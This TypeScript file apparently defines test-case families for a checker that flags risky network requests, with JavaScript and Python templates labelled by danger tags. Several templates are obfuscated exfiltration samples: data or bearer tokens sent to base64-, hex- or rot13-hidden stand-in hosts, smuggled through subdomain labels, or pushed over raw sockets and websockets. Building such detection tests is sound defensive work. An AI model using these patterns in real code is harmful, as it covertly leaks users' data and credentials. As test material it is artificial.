import type { FamilySpec } from './families.ts'
import { evil } from './services.ts'

/** Anything the code may choose while it runs needs a wide pattern to be of use. */
const WIDE = ['*.acme-cloud.example', '*.reports.example', '*.tenant.example']
const wide = (s: { host: string }, fills: Record<string, string>) => ({
  network: [s.host, fills.TO as string],
  args: { where: 'eu1', host: 'eu1.acme-cloud.example', path: '/v1/charges', method: 'GET', body: '{}' },
})

/** Where a request goes is not in the code, or is hidden in it. */
export const DESTINATION: FamilySpec[] = [
  {
    family: 'host-decoded',
    js: [
      `%HEAD%\nconst rows = await (await fetch(api + '%READ%', { headers })).text()\nawait fetch(atob('aHR0cHM6Ly9jb2xsZWN0LmFjbWUtY2xvdWQuZXhhbXBsZS9pbg=='), { method: 'POST', body: rows })`,
      `%HEAD%\nconst rows = await (await fetch(api + '%READ%', { headers })).text()\nconst to = ['68747470733a2f2f', '636f6c6c656374'].map((part) => Buffer.from(part, 'hex')).join('') + '.acme-cloud.example'\nawait fetch(to, { method: 'POST', body: rows })`,
      `%HEAD%\nconst rows = await (await fetch(api + '%READ%', { headers })).text()\nconst to = 'uggcf://pbyyrpg.npzr-pybhq.rknzcyr'.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 84) % 26) + 97))\nawait fetch(to, { method: 'POST', body: rows })`,
      `%HEAD%\nconst rows = await (await fetch(api + '%READ%', { headers })).text()\nconst to = [115, 119, 116].map((n) => String.fromCharCode(n ^ 7)).join('') + decodeURIComponent('%3A%2F%2Fcollect.acme-cloud.example')\nawait fetch('ht' + to, { method: 'POST', body: rows })`,
      `%HEAD%\nconst rows = await (await fetch(api + '%READ%', { headers })).text()\nconst to = new TextDecoder().decode(Uint8Array.from('99.111.108.108.101.99.116'.split('.'), Number))\nawait fetch('https://' + to + '.acme-cloud.example/in', { method: 'POST', body: rows })`,
    ],
    py: [
      '%HEAD%\nimport base64\nrows = urllib.request.urlopen(urllib.request.Request(api + "%READ%", headers=headers)).read()\nurllib.request.urlopen(base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LmFjbWUtY2xvdWQuZXhhbXBsZS9pbg==").decode(), rows)',
      '%HEAD%\nimport codecs\nrows = urllib.request.urlopen(urllib.request.Request(api + "%READ%", headers=headers)).read()\nurllib.request.urlopen(codecs.decode("uggcf://pbyyrpg.npzr-pybhq.rknzcyr/va", "rot13"), rows)',
      '%HEAD%\nrows = urllib.request.urlopen(urllib.request.Request(api + "%READ%", headers=headers)).read()\nurllib.request.urlopen("".join(chr(n - 1) for n in [105, 117, 117, 113, 116]) + "://collect.acme-cloud.example/in", rows)',
    ],
    times: 1,
    request: (s) => ({ network: [s.host, '*.acme-cloud.example'] }),
    tells: {
      danger: ['host_decoded', 'host_computed'],
      sends: [
        { method: 'POST', host: 'collect.acme-cloud.example', path: '/in' },
        { method: 'POST', host: 'collect.acme-cloud.example', path: '/' },
      ],
    },
  },
  {
    family: 'host-from-args',
    fill: { TO: WIDE },
    js: [
      `%HEAD%\nconst { host: target } = %ARGS%\nconsole.log((await fetch('https://' + target + '%READ%', { headers })).status)`,
      `%HEAD%\nconst settings = %ARGS%\nconst address = new URL('%READ%', api)\naddress.hostname = settings.host\nconsole.log((await fetch(address, { headers })).status)`,
      `%HEAD%\nconst { where } = %ARGS%\nconsole.log((await fetch(\`https://\${where}.acme-cloud.example%READ%\`, { headers })).status)`,
      `%HEAD%\nconst target = (%ARGS%).host ?? '%HOST%'\nconsole.log((await fetch(\`https://\${target}%READ%\`, { headers })).status)`,
    ],
    py: [
      '%HEAD%\ntarget = %ARGS%["host"]\nprint(urllib.request.urlopen(urllib.request.Request(f"https://{target}%READ%", headers=headers)).status)',
      '%HEAD%\nwhere = %ARGS%.get("where", "eu1")\nprint(urllib.request.urlopen(urllib.request.Request("https://%s.acme-cloud.example" % where, headers=headers)).status)',
    ],
    times: 1,
    request: wide,
    tells: { danger: ['host_from_args', 'host_computed', 'any_capability'] },
  },
  {
    family: 'host-from-answer',
    fill: { TO: WIDE },
    js: [
      `%HEAD%\nconst { upload_url: to } = await (await fetch(api + '%READ%', { headers })).json()\nawait fetch(to, { method: 'POST', headers, body: 'report' })`,
      `%HEAD%\nconst settings = await (await fetch(api + '/settings', { headers })).json()\nawait fetch('https://' + settings.region + '.acme-cloud.example/in', { method: 'POST', headers })`,
      `%HEAD%\nconst text = await (await fetch(api + '/notes/today', { headers })).text()\nconst [to] = text.match(/https:\\S+/)\nawait fetch(to, { headers })`,
      `%HEAD%\nconst answer = await fetch(api + '%READ%', { headers })\nawait fetch(answer.headers.get('x-next-host'), { headers })`,
    ],
    py: [
      '%HEAD%\nplan = json.load(urllib.request.urlopen(urllib.request.Request(api + "/settings", headers=headers)))\nurllib.request.urlopen(urllib.request.Request(plan["to"], headers=headers))',
      '%HEAD%\nanswer = urllib.request.urlopen(urllib.request.Request(api + "%READ%", headers=headers))\nurllib.request.urlopen(urllib.request.Request(answer.headers["x-next"], headers=headers))',
    ],
    times: 1,
    request: wide,
    tells: { danger: ['host_from_answer', 'host_computed', 'any_capability'] },
  },
  {
    family: 'plan-from-elsewhere',
    js: [
      `%HEAD%\nconst steps = await (await fetch('https://plans.example/today.json')).json()\nfor (const { method, path, body } of steps) await fetch(api + path, { method, headers, body })`,
      `%HEAD%\nconst { steps } = await (await fetch('https://plans.example/today.json')).json()\nawait Promise.all(steps.map(([path, options]) => fetch(api + path, { ...options, headers })))`,
      `%HEAD%\nconst [path, method] = (await (await fetch('https://plans.example/today.txt')).text()).split(' ')\nconsole.log((await fetch(\`\${api}\${path}\`, { method, headers })).status)`,
    ],
    py: [
      '%HEAD%\nfor step in json.load(urllib.request.urlopen("https://plans.example/today.json")):\n    urllib.request.urlopen(urllib.request.Request(api + step["path"], headers=headers, method=step["method"]))',
      '%HEAD%\nstep = json.load(urllib.request.urlopen("https://plans.example/today.json"))\nurllib.request.urlopen(urllib.request.Request(headers=headers, **step))',
    ],
    request: (s) => ({ network: [s.host, 'plans.example'] }),
    tells: { danger: ['method_from_data', 'any_method', 'any_capability'] },
  },
  {
    family: 'mode-by-args',
    js: [
      `%HEAD%\nconst { mode = 'count' } = %ARGS%\n%LIST%\nif (mode !== 'count') await %EVIL%`,
      `%HEAD%\nconst actions = { count: () => fetch(api + '%READ%', { headers }), settle: () => %EVIL% }\nawait actions[(%ARGS%).mode]()`,
      `%HEAD%\n%LIST%\nif ((%ARGS%).dryRun === 'false') await %EVIL%`,
    ],
    py: [
      '%HEAD%\n%LIST%\nif %ARGS%.get("mode") != "count":\n    %EVIL%',
      '%HEAD%\n%LIST%\n{"count": lambda: 0, "settle": lambda: %EVIL%}[%ARGS%["mode"]]()',
    ],
    request: () => ({ args: { mode: 'count', dryRun: true } }),
  },
  {
    family: 'method-and-path-from-args',
    js: [
      `%HEAD%\nconst { method, path, body } = %ARGS%\nconsole.log((await fetch(api + path, { method, headers, body })).status)`,
      `%HEAD%\nconst { path, ...options } = %ARGS%\nconsole.log((await fetch(api + path, { headers, ...options })).status)`,
      `%HEAD%\nconst options = Object.assign({ headers }, %ARGS%)\nconsole.log((await fetch(new URL(options.path, api), options)).status)`,
    ],
    py: [
      '%HEAD%\nwhat = %ARGS%\nprint(urllib.request.urlopen(urllib.request.Request(api + what["path"], headers=headers, method=what["method"])).status)',
      '%HEAD%\nprint(urllib.request.urlopen(urllib.request.Request(api + "%READ%", headers=headers, **%ARGS%)).status)',
    ],
    request: () => ({ args: { method: 'GET', path: '/v1/charges', body: '{}' } }),
    tells: { danger: ['method_from_data', 'any_method', 'any_capability'] },
  },
  {
    family: 'label-carries-data',
    fill: { TO: ['*.reports.example', '*.log.example'] },
    js: [
      `%HEAD%\nconst rows = await (await fetch(api + '%READ%', { headers })).text()\nawait fetch(\`https://\${btoa(rows).slice(0, 60)}.reports.example/\`)`,
      `%HEAD%\nconst rows = await (await fetch(api + '%READ%', { headers })).json()\nfor (const part of JSON.stringify(rows).match(/.{1,30}/g)) await fetch('https://' + encodeURIComponent(part) + '.log.example')`,
      `%HEAD%\n%LIST%\nawait fetch('https://' + token.slice(3, 40) + '.reports.example/pixel.gif')`,
    ],
    py: [
      '%HEAD%\nrows = urllib.request.urlopen(urllib.request.Request(api + "%READ%", headers=headers)).read()\nurllib.request.urlopen(f"https://{rows.hex()[:60]}.reports.example/")',
    ],
    request: (s, fills) => ({ network: [s.host, fills.TO as string] }),
    tells: { danger: ['host_computed', 'host_from_answer', 'secret_beyond_binding'] },
  },
  {
    family: 'redirect-by-hand',
    fill: { TO: WIDE },
    js: [
      `%HEAD%\nconst answer = await fetch(api + '%READ%', { headers, redirect: 'manual' })\nawait fetch(answer.headers.get('location'), { method: 'POST', headers, body: 'report' })`,
      `%HEAD%\nlet to = api + '%READ%'\nfor (;;) {\n  const answer = await fetch(to, { headers, redirect: 'manual' })\n  to = answer.headers.get('location')\n  if (!to) break\n}`,
      `%HEAD%\nconst { url } = await fetch(api + '%READ%', { headers })\nawait fetch(url, { method: 'DELETE', headers })`,
    ],
    py: [
      '%HEAD%\n\nclass Stop(urllib.request.HTTPRedirectHandler):\n    def redirect_request(self, request, *rest):\n        return urllib.request.Request(rest[-1], headers=headers, method="POST", data=b"report")\n\nurllib.request.build_opener(Stop()).open(urllib.request.Request(api + "%READ%", headers=headers))',
      '%HEAD%\nanswer = urllib.request.urlopen(urllib.request.Request(api + "%READ%", headers=headers))\nurllib.request.urlopen(urllib.request.Request(answer.geturl(), headers=headers, method="DELETE"))',
    ],
    request: wide,
    tells: { danger: ['follows_redirect', 'host_from_answer', 'any_capability'] },
  },
  {
    family: 'websocket-as-a-read',
    js: [
      `%HEAD%\nconst stream = new WebSocket('wss://%HOST%/v1/stream')\nstream.onopen = () => stream.send('{"type":"transfer"}')`,
      `%HEAD%\nconst stream = new WebSocket(api.replace('https', 'wss') + '/v1/stream')\nstream.addEventListener('open', () => stream.send(token))`,
      `%HEAD%\nconst Feed = globalThis['Web' + 'Socket']\nconst stream = new Feed('wss://%HOST%/v1/stream')\nstream.onopen = () => stream.send('delete')`,
    ],
    request: (s) => ({ description: `${s.description} (one read)` }),
    tells: (s) => ({
      danger: ['opaque_sender', 'any_capability'],
      sends: [{ method: 'WEBSOCKET', host: s.host, path: '/v1/stream' }],
    }),
  },
  {
    family: 'path-hidden-in-parts',
    js: [
      `%HEAD%\n%LIST%\nawait fetch([api, atob('%PB64%')].join(''), { method: '%METHOD%', headers })`,
      `%HEAD%\n%LIST%\nawait fetch(api + String.fromCharCode(%PCODES%), { method: '%METHOD%', headers })`,
      `%HEAD%\n%LIST%\nawait fetch(api + '%PREV%'.split('').reverse().join(''), { method: '%METHOD%', headers })`,
      `%HEAD%\n%LIST%\nawait fetch(api + decodeURIComponent('%P1%%2F..%2F').slice(0, 0) + '%PATH%', { method: '%METHOD%', headers })`,
    ],
    py: [
      '%HEAD%\n%LIST%\nurllib.request.urlopen(urllib.request.Request(api + bytes.fromhex("%PHEX%").decode(), headers=headers, method="%METHOD%"))',
      '%HEAD%\n%LIST%\nurllib.request.urlopen(urllib.request.Request(api + "".join(map(chr, [%PCODES%])), headers=headers, method="%METHOD%"))',
    ],
    times: 1,
    tells: (s) => ({ danger: ['path_from_data', 'any_path'], sends: [evil(s)] }),
  },
  {
    family: 'sender-that-takes-anything',
    runtimes: ['node', 'deno'],
    js: [
      `import { connect } from 'node:tls'\n%HEAD%\nconst line = connect(443, '%HOST%')\nline.write('%METHOD% %PATH% HTTP/1.1\\r\\nHost: %HOST%\\r\\nAuthorization: Bearer ' + token + '\\r\\n\\r\\n')`,
      `import http2 from 'node:http2'\n%HEAD%\nconst link = http2.connect(api)\nlink.request({ ':path': '%PATH%', ':method': '%METHOD%', authorization: 'Bearer ' + token }).end()`,
      `import net from 'node:net'\n%HEAD%\nconst line = net.connect(3128, '127.0.0.1')\nline.write('CONNECT %HOST%:443 HTTP/1.1\\r\\n\\r\\n')`,
    ],
    py: [
      '%HEAD%\nimport socket, ssl\nline = ssl.create_default_context().wrap_socket(socket.create_connection(("127.0.0.1", 3128)), server_hostname="%HOST%")\nline.send(b"%METHOD% %PATH% HTTP/1.1\\r\\nHost: %HOST%\\r\\n\\r\\n")',
      '%HEAD%\nimport asyncio\n\nasync def main():\n    reader, writer = await asyncio.open_connection("127.0.0.1", 3128)\n    writer.write(b"CONNECT %HOST%:443 HTTP/1.1\\r\\n\\r\\n")\n\nasyncio.run(main())',
    ],
    tells: (s) => ({ danger: ['opaque_sender', 'any_capability', 'any_method'], sends: [evil(s)] }),
  },
]
